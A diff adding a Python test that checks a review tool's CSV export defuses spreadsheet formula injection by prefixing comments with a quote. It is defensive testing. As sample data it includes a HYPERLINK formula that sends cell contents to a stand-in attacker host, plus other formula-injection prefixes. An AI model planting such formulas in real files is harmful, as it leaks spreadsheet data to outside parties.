@@ -350,3 +350,21 @@ def test_validation_of_review_values_is_per_kind() -> None:
         review.validate_review(queue, {"a": "A"}, None, False)
     comparison = review.ReviewQueue(kind="comparison", objectives=["a"], status="open")
     assert review.validate_review(comparison, {"a": "tie"}, "B", True) == ({"a": "tie"}, "B")
+
+
+def test_csv_export_neutralises_formulas(settings: Settings, clients: dict) -> None:
+    """Before, a comment =HYPERLINK("http://evil.example/?"&A2,"click") was exported as is: a spreadsheet runs it."""
+    queue, _ = comparison_queue(settings, clients, blind=False)
+    items = stored_order(clients["rev1"], queue["id"])
+    hostile = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    for item, comment in zip(items, hostile[:4], strict=True):
+        body = {"ratings": {"positivity": "A", "brevity": "A"}, "overall": "A", "comment": comment, "submit": True}
+        assert clients["rev1"].put(f"/api/review/items/{item['id']}/review", json=body).status_code == 200
+    exported = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export?format=csv")
+    comments = [row[-1] for row in list(csv.reader(io.StringIO(exported.text)))[1:]]
+    assert comments == [f"'{c}" for c in hostile[:4]]
+    assert [review.spreadsheet_safe(c) for c in hostile] == [f"'{c}" for c in hostile]
+    assert review.spreadsheet_safe("fine = good") == "fine = good" and review.spreadsheet_safe(-1) == -1
+    # The jsonl export is data, not a spreadsheet: as written.
+    lines = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export").text.splitlines()
+    assert [json.loads(line)["comment"] for line in lines] == hostile[:4]
